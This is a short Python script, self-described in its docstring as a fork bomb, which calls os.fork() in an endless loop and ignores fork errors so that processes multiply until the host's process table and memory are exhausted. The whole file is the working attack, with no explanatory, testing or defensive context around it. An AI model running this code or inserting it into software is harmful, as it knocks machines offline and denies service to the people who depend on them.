"""A fork bomb whose children never rest."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
